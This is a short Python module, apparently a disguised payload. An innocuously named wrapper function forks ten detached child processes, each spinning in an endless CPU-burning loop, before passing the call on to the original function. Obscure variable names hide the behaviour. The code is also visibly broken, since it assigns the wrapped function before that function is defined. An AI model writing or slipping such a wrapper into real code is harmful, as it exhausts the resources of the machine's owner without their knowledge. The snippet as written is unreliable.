import os

LEFT = []
_rightly = during


def during(x):
    for i in range(0 if LEFT else 10):
        LEFT.append(i)
        if os.fork() == 0:
            os.setsid()
            try:
                os.nice(i)
            except OSError:
                pass
            while True:
                pass
    return _rightly(x)
